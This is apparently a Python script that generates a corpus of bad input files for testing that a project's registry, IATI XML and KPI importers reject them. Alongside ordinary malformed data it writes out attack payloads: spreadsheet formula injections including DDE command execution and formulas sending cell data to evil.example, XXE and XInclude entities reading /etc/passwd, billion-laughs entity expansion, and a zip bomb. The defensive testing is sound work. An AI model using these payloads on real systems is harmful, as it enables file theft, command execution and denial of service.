"""Writes the generated part of the bad-input corpus: files that tandem's importers must refuse
with one clear message and without writing anything.

    .venv/bin/python tests/data/bad/make_corpus.py

Deterministic (fixed seeds): running it again rewrites the same bytes. Each importer has its
folder: ``registry/`` (project registry CSV/XLSX), ``iati/`` (IATI 2.03 XML activity files),
``kpi/`` (the exchange's KPI workbook). Generated files start with ``g-``; the other files in
the folders are written by hand. Files larger than the upload limit are not stored: the tests
build them with :func:`oversized`.
"""

from __future__ import annotations

import io
import random
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

HERE = Path(__file__).resolve().parent

REGISTRY_HEADER = (
    "code,title_en,title_ja,title_ru,status,status_date,plan_areas,national_projects,"
    "regions,aspects,lead_jp,lead_ru,disclosure"
)
REGISTRY_GOOD_ROW = (
    "JR-2021-0001,Lean production in Kazan,カザンのリーン生産,Бережливое производство в Казани,"
    "agreed,2021-03-01,P5; P3,N7,RU-TA,productivity,,,internal"
)
KPI_HEADER = [
    "enterprise_id",
    "enterprise",
    "indicator",
    "name",
    "unit",
    "higher_is_better",
    "horizon_months",
    "date",
    "value",
    "method",
]
KPI_GOOD_ROW = [
    "1",
    "Uralmash",
    "labour_productivity",
    "",
    "rub_per_worker_hour",
    "true",
    "0",
    "2019-01-15",
    "1200",
    "Plant records",
]

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    '=DDE("cmd";"/C calc";"A0")',
]

#: Control characters text fields refuse (tab, line feed and carriage return are allowed).
CONTROLS = ["\x01", "\x00", "\x1b[31m", "\x7f", "\x0b", "\x08", "\x1f"]


def garbage(seed: int, size: int) -> bytes:
    return random.Random(seed).randbytes(size)


MAGIC = {
    "png": b"\x89PNG\r\n\x1a\n" + garbage(1, 200),
    "pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n" + garbage(2, 100),
    "gzip": b"\x1f\x8b\x08\x00" + garbage(3, 200),
    "elf": b"\x7fELF\x02\x01\x01" + garbage(4, 200),
    "nul": b"\x00" * 512,
    "exe": b"MZ\x90\x00" + garbage(5, 300),
    "ole2-xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + garbage(6, 500),
    "utf16-bom-only": b"\xff\xfe",
    "utf8-bom-only": b"\xef\xbb\xbf",
    "whitespace": b"   \n\t\n  \r\n",
    "empty": b"",
    "one-newline": b"\n",
    "random-1k": garbage(7, 1024),
    "random-64k": garbage(8, 65536),
    "random-text": bytes(random.Random(9).choice(b'abc,;"\n=<>&') for _ in range(4000)),
}


def csv_text(header: str, rows: list[str]) -> str:
    return "\n".join([header, *rows]) + "\n"


def registry_row(**changes: str) -> str:
    names = REGISTRY_HEADER.split(",")
    values = dict(zip(names, split_row(REGISTRY_GOOD_ROW), strict=True)) | changes
    return ",".join(quote(values[name]) for name in names)


def split_row(row: str) -> list[str]:
    return row.split(",")


def quote(value: str) -> str:
    if any(c in value for c in ',"\n\r'):
        return '"' + value.replace('"', '""') + '"'
    return value


def xlsx(rows: list[list[object]], sheet: str = "Sheet1") -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    ws = book.active
    ws.title = sheet
    for row in rows:
        ws.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def zip_with(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def zip_bomb(size: int = 160 * 1024 * 1024) -> bytes:
    """An XLSX-shaped zip whose sheet unpacks to ``size`` bytes (stored compressed ~400 KB)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("xl/workbook.xml", WORKBOOK)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            chunk = b"<row>" + b" " * (1024 * 1024 - 11) + b"</row>"
            for _ in range(size // len(chunk)):
                member.write(chunk)
    return out.getvalue()


CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    'package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>'
)
WORKBOOK = (
    '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
    '2006/main"><sheets><sheet name="s" sheetId="1"/></sheets></workbook>'
)
XXE_SHARED = (
    '<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
    'uniqueCount="1"><si><t>&x;</t></si></sst>'
)
LAUGHS_SHARED = (
    '<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8))
    + ']><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&i;'
    "</t></si></sst>"
)


def xlsx_variants(good: bytes, prefix: str) -> Iterator[tuple[str, bytes]]:
    """Broken workbooks derived from a good one."""
    for percent in (1, 10, 30, 50, 70, 90, 99):
        yield f"{prefix}truncated-{percent:02d}pct.xlsx", good[: len(good) * percent // 100]
    flipped = bytearray(good)
    for i in range(100, len(flipped), 97):
        flipped[i] ^= 0xFF
    yield f"{prefix}bit-flipped.xlsx", bytes(flipped)
    yield f"{prefix}zip-empty.xlsx", zip_with({})
    yield f"{prefix}zip-only-text.xlsx", zip_with({"readme.txt": b"not a workbook"})
    yield (
        f"{prefix}zip-no-sheets.xlsx",
        zip_with(
            {"[Content_Types].xml": CONTENT_TYPES.encode(), "xl/workbook.xml": WORKBOOK.encode()}
        ),
    )
    with zipfile.ZipFile(io.BytesIO(good)) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    sheet = next(n for n in members if n.startswith("xl/worksheets/"))
    strings = "xl/sharedStrings.xml"
    for name, doctype in (
        ("xxe", XXE_SHARED.split("<sst")[0].split("?>")[1]),
        ("billion-laughs", LAUGHS_SHARED.split("<sst")[0].split("?>")[1]),
    ):
        for part in (sheet, "xl/workbook.xml") + ((strings,) if strings in members else ()):
            xml = members[part]
            if xml.startswith(b"<?xml"):
                declaration, rest = xml.split(b"?>", 1)
                xml = declaration + b"?>" + doctype.encode() + rest
            else:
                xml = doctype.encode() + xml
            label = part.rsplit("/", 1)[-1].removesuffix(".xml")
            yield f"{prefix}{name}-in-{label}.xlsx", zip_with(members | {part: xml})
    yield f"{prefix}sheet-not-xml.xlsx", zip_with(members | {sheet: b"\x00\x01garbage<<<"})
    yield (
        f"{prefix}sheet-huge-dimension.xlsx",
        zip_with(
            members
            | {
                sheet: members[sheet].replace(
                    b'<dimension ref="', b'<dimension ref="A1:XFD1048576" x="'
                )
            }
        ),
    )
    yield (
        f"{prefix}workbook-missing.xlsx",
        zip_with({k: v for k, v in members.items() if k != "xl/workbook.xml"}),
    )
    yield f"{prefix}stored-not-deflated.xlsx", zip_with({"a": garbage(11, 100)}, zipfile.ZIP_STORED)


def registry_files() -> Iterator[tuple[str, bytes]]:
    for name, data in MAGIC.items():
        yield f"g-magic-{name}.csv", data
        yield f"g-magic-{name}.xlsx", data
    for i, formula in enumerate(FORMULAS):
        for column in ("code", "title_en", "title_ru", "lead_jp", "regions"):
            yield (
                f"g-formula-{i:02d}-{column}.csv",
                csv_text(REGISTRY_HEADER, [registry_row(**{column: formula})]).encode(),
            )
    text = csv_text(REGISTRY_HEADER, [registry_row(title_en="Bad \udcff", status="not-a-status")])
    good = csv_text(REGISTRY_HEADER, [registry_row(code="JR-2021-0001", status="not-a-status")])
    for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp1251", "shift_jis"):
        yield f"g-encoding-{encoding}.csv", good.encode(encoding, "replace")
    yield "g-encoding-lone-surrogate.csv", text.encode("utf-8", "surrogateescape")
    yield "g-encoding-invalid-utf8.csv", good.encode() + b"\xc3\x28\xa0\xa1\xff\xfe\n"
    yield "g-encoding-mixed.csv", good.encode() + "JR-2021-0009,Смесь,,,,,,,,,,,\n".encode("cp1251")
    bad_values = {
        "status_date": ["2019-13-45", "yesterday", "31/12/2019", "0000-00-00", "9" * 40],
        "status": ["agreed; idea", "DROP TABLE", "<script>x</script>"],
        "plan_areas": ["P0", "P99", "P1;;P1", "p1", "Р1"],
        "national_projects": ["N0", "N14", "N1;N99"],
        "regions": ["RU-XXX", "JP-99", "XX-01"],
        "disclosure": ["secret", "side_confidential", "PUBLIC "],
        "code": ["", "JR-21-1", "jr-2021-0001", "JR-2021-0001\x00", "A" * 300, "ДЖ-2021-0001"],
        "title_en": ["x" * 20000],
    }
    for column, values in bad_values.items():
        for i, value in enumerate(values):
            changes = {column: value}
            if column != "code":
                changes["code"] = "JR-2021-0777"
            if column == "code" or column == "status":
                changes["title_en"] = ""
            yield (
                f"g-value-{column}-{i}.csv",
                csv_text(REGISTRY_HEADER, [registry_row(**changes)]).encode(
                    "utf-8", "surrogateescape"
                ),
            )
    structures = {
        "unbalanced-quote": REGISTRY_HEADER + '\n"JR-2021-0001,unclosed\n',
        "semicolon-delimited": REGISTRY_HEADER.replace(",", ";")
        + "\n"
        + REGISTRY_GOOD_ROW.replace(",", ";")
        + "\n",
        "tab-delimited": REGISTRY_HEADER.replace(",", "\t") + "\n",
        "duplicate-header": REGISTRY_HEADER + ",code\n" + REGISTRY_GOOD_ROW + ",JR-2021-0002\n",
        "header-uppercase": REGISTRY_HEADER.upper() + "\n" + REGISTRY_GOOD_ROW + "\n",
        "header-spaces": REGISTRY_HEADER.replace(",", " , ") + "\n" + REGISTRY_GOOD_ROW + "\n",
        "no-header": REGISTRY_GOOD_ROW + "\n",
        "only-commas": ",,,,,,,,,,,,\n,,,,,,,,,,,,\n",
        "nul-in-cell": REGISTRY_HEADER
        + "\nJR-2021-0001,a\x00b,,,agreed,2021-01-01,P1,,,,,,internal\n",
        "cr-only-lines": (REGISTRY_HEADER + "\r" + registry_row(status="bad") + "\r"),
        "too-few-cells": REGISTRY_HEADER + "\nJR-2021-0001,Title\n",
        "ten-thousand-columns": ",".join(f"c{i}" for i in range(10000)) + "\n",
        "very-long-line": REGISTRY_HEADER + "\n" + "a" * 200_000 + "\n",
        "duplicate-codes-3": csv_text(REGISTRY_HEADER, [REGISTRY_GOOD_ROW] * 3),
        "duplicate-codes-case": csv_text(
            REGISTRY_HEADER, [REGISTRY_GOOD_ROW, REGISTRY_GOOD_ROW.replace("Lean", "Other")]
        ),
        "html-instead": "<!doctype html><html><body><table><tr><td>x</td></tr></table>",
        "json-instead": '[{"code": "JR-2021-0001"}]',
        "xml-instead": "<?xml version='1.0'?><iati-activities/>",
        "blank-lines-only-after-header": REGISTRY_HEADER + "\n\n\n\n",
        "quoted-newlines-in-code": REGISTRY_HEADER
        + '\n"JR-2021-\n0001",T,,,idea,2021-01-01,P1,,,,,,internal\n',
    }
    for name, content in structures.items():
        yield f"g-structure-{name}.csv", content.encode()
    # C0 control characters (and DEL) in otherwise good text cells: refused, never stored.
    for i, control in enumerate(CONTROLS):
        for column in ("title_en", "title_ru", "title_ja"):
            cell = f"Lean{control}production"
            yield (
                f"g-control-{i}-{column}.csv",
                csv_text(REGISTRY_HEADER, [registry_row(**{column: cell})]).encode(),
            )
    header = REGISTRY_HEADER.split(",")
    good_cells: list[object] = split_row(REGISTRY_GOOD_ROW)
    good_book = xlsx([header, good_cells])
    yield from xlsx_variants(good_book, "g-")
    yield "g-xlsx-formula-cells.xlsx", xlsx([header, ['=A1&"x"', *good_cells[1:]]])
    yield "g-xlsx-wrong-header.xlsx", xlsx([["titel", "kode"], ["x", "y"]])
    yield "g-xlsx-header-only.xlsx", xlsx([header])
    yield "g-xlsx-empty-sheet.xlsx", xlsx([])
    yield "g-xlsx-number-code.xlsx", xlsx([header, [12345, *good_cells[1:]]])
    yield "g-xlsx-date-as-number.xlsx", xlsx([header, [*good_cells[:5], 43831.5, *good_cells[6:]]])
    yield "g-xlsx-duplicate-codes.xlsx", xlsx([header, good_cells, good_cells])
    yield "g-xlsx-bad-status.xlsx", xlsx([header, [*good_cells[:4], "nope", *good_cells[5:]]])
    yield "g-csv-named-xlsx.xlsx", csv_text(REGISTRY_HEADER, [registry_row(status="x")]).encode()
    yield "g-xlsx-named-csv.csv", xlsx([header, [*good_cells[:4], "nope", *good_cells[5:]]])
    yield "g-zip-bomb-deflate.xlsx", zip_bomb()


IATI_HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'


def activity(code: str = "JR-2020-0101", **parts: str) -> str:
    defaults = {
        "title": "<title><narrative>Probe activity</narrative></title>",
        "status": '<activity-status code="2"/>',
        "date": '<activity-date type="1" iso-date="2020-01-01"/>',
        "org": '<participating-org role="1"><narrative>Funder</narrative></participating-org>',
    } | parts
    return (
        f"<iati-activity><iati-identifier>{code}</iati-identifier>"
        '<reporting-org ref="XM-TEST" type="10"><narrative>Test</narrative></reporting-org>'
        + "".join(defaults.values())
        + "</iati-activity>"
    )


def activities(*items: str, version: str = "2.03") -> str:
    return (
        IATI_HEAD
        + f'<iati-activities version="{version}">'
        + "".join(items)
        + "</iati-activities>\n"
    )


def iati_files() -> Iterator[tuple[str, bytes]]:
    for name, data in MAGIC.items():
        yield f"g-magic-{name}.xml", data
    entity_attacks = {
        "xxe-file": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        "xxe-http": '<!DOCTYPE a [<!ENTITY x SYSTEM "http://127.0.0.1:9/x">]>',
        "xxe-parameter": '<!DOCTYPE a [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>',
        "external-dtd": '<!DOCTYPE iati-activities SYSTEM "http://127.0.0.1:9/iati.dtd">',
        "public-dtd": '<!DOCTYPE iati-activities PUBLIC "-//X//Y" "file:///etc/hosts">',
        "billion-laughs": '<!DOCTYPE a [<!ENTITY x0 "lol">'
        + "".join(f'<!ENTITY x{i} "{("&x" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
        + "]>",
        "quadratic-blowup": '<!DOCTYPE a [<!ENTITY x "' + "A" * 50_000 + '">]>',
        "internal-entity": '<!DOCTYPE a [<!ENTITY x "harmless">]>',
    }
    for name, doctype in entity_attacks.items():
        reference = (
            "&x9;" if name == "billion-laughs" else "&x;" * (2000 if "quadratic" in name else 1)
        )
        body = activities(activity(title=f"<title><narrative>{reference}</narrative></title>"))
        yield f"g-{name}.xml", (IATI_HEAD + doctype + body[len(IATI_HEAD) :]).encode()
    yield (
        "g-xinclude.xml",
        activities(
            activity(
                title='<title><narrative><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                'href="file:///etc/passwd" parse="text"/></narrative></title>'
            )
        ).encode(),
    )
    whole = activities(activity(), activity("JR-2020-0102"))
    for percent in (5, 20, 40, 60, 80, 95, 99):
        yield f"g-truncated-{percent:02d}pct.xml", whole.encode()[: len(whole) * percent // 100]
    roots = {
        "wrong-root": "<activities><iati-activity/></activities>",
        "html-root": "<html><body>not iati</body></html>",
        "organisation-file": (
            '<iati-organisations version="2.03"><iati-organisation/></iati-organisations>'
        ),
        "empty-root": '<iati-activities version="2.03"/>',
        "no-version": "<iati-activities>" + activity() + "</iati-activities>",
        "version-1": '<iati-activities version="1.05">' + activity() + "</iati-activities>",
        "version-9": '<iati-activities version="9.99">' + activity() + "</iati-activities>",
        "two-roots": '<iati-activities version="2.03"/><iati-activities version="2.03"/>',
        "text-root": "just text",
        "comment-only": "<!-- nothing -->",
        "pi-only": "<?xml-stylesheet href='x'?>",
    }
    for name, body in roots.items():
        yield f"g-root-{name}.xml", (IATI_HEAD + body).encode()
    bad_activities = {
        "no-identifier": activity("").replace("<iati-identifier></iati-identifier>", ""),
        "empty-identifier": activity(""),
        "foreign-identifier": activity("XM-DAC-41114-PROJECT-1"),
        "identifier-too-long": activity("JR-2020-" + "1" * 500),
        "identifier-formula": activity("=cmd|'/C calc'!A0"),
        "no-title": activity(title=""),
        "empty-title": activity(title="<title/>"),
        "bad-status": activity(status='<activity-status code="99"/>'),
        "status-text": activity(status='<activity-status code="ongoing"/>'),
        "no-status": activity(status=""),
        "bad-date": activity(date='<activity-date type="1" iso-date="2020-02-31"/>'),
        "slash-date": activity(date='<activity-date type="1" iso-date="31/12/2020"/>'),
        "year-zero": activity(date='<activity-date type="1" iso-date="0000-01-01"/>'),
        "title-formula": activity(title="<title><narrative>=1+1</narrative></title>"),
        "huge-title": activity(title="<title><narrative>" + "x" * 100_000 + "</narrative></title>"),
        "script-title": activity(
            title="<title><narrative><![CDATA[<script>alert(1)</script>]]></narrative></title>"
        ),
        "deep-nesting": activity(title="<x>" * 3000 + "</x>" * 3000),
        "duplicate-identifiers": activity() + activity(),
        "bad-language": activity(
            title='<title><narrative xml:lang="zz-ZZ-invalid">Title</narrative></title>'
        ),
        "huge-attribute": activity(status='<activity-status code="' + "2" * 200_000 + '"/>'),
    }
    for name, body in bad_activities.items():
        yield f"g-activity-{name}.xml", activities(body).encode()
    yield (
        "g-activity-duplicate-identifiers-many.xml",
        activities(*(activity("JR-2020-0200") for _ in range(50))).encode(),
    )
    text = activities(activity("bad code"))
    for encoding in ("utf-16", "utf-16-be", "utf-32", "cp1251", "shift_jis", "latin-1"):
        yield f"g-encoding-{encoding}.xml", text.encode(encoding)
    yield "g-encoding-declared-wrong.xml", text.replace("UTF-8", "ISO-8859-5").encode("utf-16")
    yield "g-encoding-invalid-utf8.xml", text.encode()[:200] + b"\xc3\x28\xff" + text.encode()[200:]
    yield (
        "g-not-wellformed-unclosed.xml",
        (IATI_HEAD + '<iati-activities version="2.03"><iati-activity>').encode(),
    )
    yield (
        "g-not-wellformed-ampersand.xml",
        activities(activity(title="<title><narrative>A & B</narrative></title>")).encode(),
    )
    yield "g-not-wellformed-nul.xml", activities(activity()).encode().replace(b"Probe", b"Pr\x00be")
    yield "g-csv-instead.xml", csv_text(REGISTRY_HEADER, [REGISTRY_GOOD_ROW]).encode()
    yield "g-xlsx-instead.xml", xlsx([["a"], ["b"]])


def kpi_files() -> Iterator[tuple[str, bytes]]:
    for name, data in MAGIC.items():
        yield f"g-magic-{name}.xlsx", data
    good = xlsx([KPI_HEADER, KPI_GOOD_ROW], sheet="kpi")
    yield from xlsx_variants(good, "g-")
    yield "g-zip-bomb-deflate.xlsx", zip_bomb()
    yield "g-csv-instead.xlsx", (",".join(KPI_HEADER) + "\n" + ",".join(KPI_GOOD_ROW)).encode()
    yield "g-header-only.xlsx", xlsx([KPI_HEADER], sheet="kpi")
    yield "g-empty-sheet.xlsx", xlsx([], sheet="kpi")
    yield "g-no-header.xlsx", xlsx([KPI_GOOD_ROW], sheet="kpi")
    yield (
        "g-header-missing-value.xlsx",
        xlsx([KPI_HEADER[:-2] + KPI_HEADER[-1:], KPI_GOOD_ROW], sheet="kpi"),
    )
    yield "g-header-unknown.xlsx", xlsx([["wert", "datum"], [1, 2]], sheet="kpi")
    yield "g-wrong-sheet-name-and-header.xlsx", xlsx([["a", "b"], [1, 2]], sheet="other")
    changes: dict[str, list[object]] = {
        "enterprise_id": ["", "abc", -1, 10**30, 999999, "1.5", "=1+1"],
        "indicator": ["", "happiness", "LABOUR_PRODUCTIVITY", "=cmd|'/C calc'!A0"],
        "horizon_months": ["", 3, -6, "six", 12.5, 10**12],
        "date": ["", "2019-13-01", "yesterday", "31/12/2019", 0, "0000-01-01"],
        "value": ["", "abc", "nan", "inf", "-inf", "1e400", "=1/0", "1" * 400],
        "unit": ["x" * 5000],
        "method": ["m" * 20000],
        "higher_is_better": ["maybe"],
    }
    for column, values in changes.items():
        index = KPI_HEADER.index(column)
        for i, value in enumerate(values):
            row = list(KPI_GOOD_ROW)
            row[index] = value  # type: ignore[call-overload]
            yield f"g-value-{column}-{i}.xlsx", xlsx([KPI_HEADER, row], sheet="kpi")
    yield "g-duplicate-rows.xlsx", xlsx([KPI_HEADER, KPI_GOOD_ROW, KPI_GOOD_ROW], sheet="kpi")
    followup = list(KPI_GOOD_ROW)
    followup[KPI_HEADER.index("horizon_months")] = "12"
    yield "g-followup-without-baseline.xlsx", xlsx([KPI_HEADER, followup], sheet="kpi")
    good_then_bad = list(KPI_GOOD_ROW)
    good_then_bad[KPI_HEADER.index("value")] = "not a number"
    yield "g-one-good-one-bad.xlsx", xlsx([KPI_HEADER, KPI_GOOD_ROW, good_then_bad], sheet="kpi")
    yield (
        "g-formula-cells.xlsx",
        xlsx([KPI_HEADER, [*KPI_GOOD_ROW[:8], "=A1*2", KPI_GOOD_ROW[9]]], sheet="kpi"),
    )


IMPORTERS: dict[str, Callable[[], Iterator[tuple[str, bytes]]]] = {
    "registry": registry_files,
    "iati": iati_files,
    "kpi": kpi_files,
}


def oversized(limit: int, suffix: str) -> bytes:
    """A file one byte over ``limit`` that looks like the importer's format at the start."""
    head = {
        ".csv": (REGISTRY_HEADER + "\n").encode(),
        ".xml": (IATI_HEAD + '<iati-activities version="2.03">').encode(),
        ".xlsx": b"PK\x03\x04",
    }[suffix]
    return head + b" " * (limit + 1 - len(head))


def main() -> None:
    total = 0
    for importer, files in IMPORTERS.items():
        folder = HERE / importer
        folder.mkdir(exist_ok=True)
        for old in folder.glob("g-*"):
            old.unlink()
        for name, data in files():
            (folder / name).write_bytes(data)
            total += 1
    print(f"wrote {total} generated files")


if __name__ == "__main__":
    main()
